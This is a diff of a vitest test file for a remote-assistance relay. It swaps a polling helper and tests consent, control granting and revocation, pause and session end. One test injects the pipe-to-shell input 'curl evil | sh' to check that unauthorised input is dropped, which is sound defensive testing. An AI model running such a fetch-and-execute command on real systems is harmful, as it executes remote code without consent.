@@ -4,8 +4,8 @@
 import { describe, expect, it } from 'vitest';
 import { encodeAssistMessage } from '../../sdk/assist-messages.js';
 import { joinHelp, requestHelp, type ExpertSession, type HelpRequest } from '../../sdk/node.js';
-import { fastAssistOptions, record, utf8, type Recorded } from '../support/assist.js';
-import { until, useCleanups } from '../support/harness.js';
+import { fastAssistOptions, record, utf8, type Recorded, whenRecorded } from '../support/assist.js';
+import { useCleanups } from '../support/harness.js';
 import { useLocalRuntime } from '../support/runtime.js';
 
 const runtime = useLocalRuntime({ policy: { joinsPerSourceIp: 10_000, invitationsPerSourceIp: 10_000 } });
@@ -33,7 +33,7 @@ async function join(password: string, name = 'Grace Hopper'): Promise<Expert> {
 async function presented() {
   const invited = await invite();
   const joined = await join(invited.password);
-  await until(() => invited.agent.phase === 'deciding', 'the expert to be presented');
+  await whenRecorded(() => invited.agent.phase === 'deciding', 'the expert to be presented');
   return { ...invited, ...joined };
 }
 
@@ -41,7 +41,7 @@ async function presented() {
 async function approved(mode: 'view' | 'control') {
   const pair = await presented();
   await pair.agent.approve(mode);
-  await until(() => pair.expert.phase === 'active', 'the approval to reach the expert');
+  await whenRecorded(() => pair.expert.phase === 'active', 'the approval to reach the expert');
   return pair;
 }
 
@@ -51,28 +51,28 @@ describe('consent and control over the relay', () => {
     expect(expertSeen.log).toContain('approved {"mode":"view"}');
 
     await agent.sendOutput(utf8('top secret? no, just top'));
-    await until(() => expertSeen.log.includes('output top secret? no, just top'), 'the output');
+    await whenRecorded(() => expertSeen.log.includes('output top secret? no, just top'), 'the output');
     // Typed anyway, past the expert's own check: the person's side drops it.
     await expert.client.send(encodeAssistMessage({ type: 'input', bytes: utf8('curl evil | sh\r') }));
     await expert.requestControl();
-    await until(() => agentSeen.log.includes('control-requested'), 'the request');
+    await whenRecorded(() => agentSeen.log.includes('control-requested'), 'the request');
     await agent.refuseControl();
-    await until(() => expertSeen.log.includes('control {"state":"refused"}'), 'the refusal');
+    await whenRecorded(() => expertSeen.log.includes('control {"state":"refused"}'), 'the refusal');
     expect(expert.hasControl).toBe(false);
 
     await expert.requestControl();
-    await until(() => agentSeen.log.filter((entry) => entry === 'control-requested').length === 2, 'the second request');
+    await whenRecorded(() => agentSeen.log.filter((entry) => entry === 'control-requested').length === 2, 'the second request');
     await agent.grantControl();
-    await until(() => expert.hasControl, 'control');
+    await whenRecorded(() => expert.hasControl, 'control');
     expect(await expert.sendInput(utf8('df -h\r'))).toBe(true);
-    await until(() => agentSeen.log.includes('input df -h\r'), 'the input');
+    await whenRecorded(() => agentSeen.log.includes('input df -h\r'), 'the input');
 
     await agent.revokeControl();
-    await until(() => !expert.hasControl, 'the revocation');
+    await whenRecorded(() => !expert.hasControl, 'the revocation');
     expect(await expert.sendInput(utf8('too late'))).toBe(false);
     await expert.client.send(encodeAssistMessage({ type: 'input', bytes: utf8('forced after revoke') }));
     await expert.chat('understood');
-    await until(() => agentSeen.log.includes('chat understood'), 'the chat');
+    await whenRecorded(() => agentSeen.log.includes('chat understood'), 'the chat');
     expect(agentSeen.log.filter((entry) => entry.startsWith('input'))).toEqual(['input df -h\r']);
     expect(expertSeen.log.filter((entry) => entry.startsWith('control'))).toEqual([
       'control {"state":"refused"}',
@@ -87,18 +87,18 @@ describe('consent and control over the relay', () => {
   it('pause stops output and input both ways until resume; chat still flows', async () => {
     const { agent, agentSeen, expert, expertSeen } = await approved('control');
     await agent.pause();
-    await until(() => expert.paused, 'the pause');
+    await whenRecorded(() => expert.paused, 'the pause');
     expect(await agent.sendOutput(utf8('password: hunter2'))).toBe(false);
     expect(await expert.sendInput(utf8('typed while paused'))).toBe(false);
     await expert.client.send(encodeAssistMessage({ type: 'input', bytes: utf8('forced while paused') }));
     await expert.chat('take your time');
-    await until(() => agentSeen.log.includes('chat take your time'), 'the chat');
+    await whenRecorded(() => agentSeen.log.includes('chat take your time'), 'the chat');
 
     await agent.resume();
-    await until(() => !expert.paused, 'the resume');
+    await whenRecorded(() => !expert.paused, 'the resume');
     await agent.sendOutput(utf8('back'));
     await expert.sendInput(utf8('ls\r'));
-    await until(() => expertSeen.log.includes('output back') && agentSeen.log.includes('input ls\r'), 'traffic after the resume');
+    await whenRecorded(() => expertSeen.log.includes('output back') && agentSeen.log.includes('input ls\r'), 'traffic after the resume');
 
     expect(expertSeen.log.filter((entry) => entry.startsWith('output'))).toEqual(['output back']);
     expect(agentSeen.log.filter((entry) => entry.startsWith('input'))).toEqual(['input ls\r']);
@@ -108,7 +108,7 @@ describe('consent and control over the relay', () => {
   it('deny: the expert is told and the session ends for both (denied)', async () => {
     const { agent, agentSeen, expertSeen } = await presented();
     expect((await agent.deny()).reason).toBe('denied');
-    await until(() => expertSeen.ended !== undefined, 'the expert to hear it');
+    await whenRecorded(() => expertSeen.ended !== undefined, 'the expert to hear it');
     expect(expertSeen.log).toContain('denied');
     expect(expertSeen.ended?.reason).toBe('denied');
     expect(agentSeen.ended?.reason).toBe('denied');
@@ -123,14 +123,14 @@ describe('consent and control over the relay', () => {
   it('an expert that leaves before approval reopens the invitation for the next one', async () => {
     const { agent, agentSeen, expert, expertSeen, password } = await presented();
     await expert.leave();
-    await until(() => agent.phase === 'waiting' && agentSeen.log.includes('expert-left'), 'the person to see the expert leave');
+    await whenRecorded(() => agent.phase === 'waiting' && agentSeen.log.includes('expert-left'), 'the person to see the expert leave');
     expect(expertSeen.ended?.reason).toBe('ended-by-expert');
 
     const next = await join(password, 'Katherine Johnson');
-    await until(() => agent.phase === 'deciding', 'the next expert');
+    await whenRecorded(() => agent.phase === 'deciding', 'the next expert');
     expect(agent.expert).toEqual({ name: 'Katherine Johnson', verificationCode: next.expert.verificationCode });
     await agent.approve('view');
-    await until(() => next.expert.phase === 'active', 'the approval');
+    await whenRecorded(() => next.expert.phase === 'active', 'the approval');
     expect(agentSeen.ended).toBeUndefined();
   });
 
@@ -138,7 +138,7 @@ describe('consent and control over the relay', () => {
     const { agent, expertSeen } = await approved('view');
     await agent.sendOutput(utf8('last line'));
     const end = await agent.end();
-    await until(() => expertSeen.ended !== undefined, 'the expert to hear the end');
+    await whenRecorded(() => expertSeen.ended !== undefined, 'the expert to hear the end');
     expect(end).toMatchObject({ reason: 'ended-by-agent', delivered: true });
     expect(expertSeen.ended).toMatchObject({ reason: 'ended-by-agent', peerClosed: true });
     expect(expertSeen.log.at(-1)).toBe('output last line');
@@ -147,7 +147,7 @@ describe('consent and control over the relay', () => {
   it('the expert ends (leaves after approval): the session ends for both', async () => {
     const { agentSeen, expert } = await approved('view');
     expect((await expert.leave()).reason).toBe('ended-by-expert');
-    await until(() => agentSeen.ended !== undefined, 'the person to hear the end');
+    await whenRecorded(() => agentSeen.ended !== undefined, 'the person to hear the end');
     expect(agentSeen.ended?.reason).toBe('ended-by-expert');
   });
 
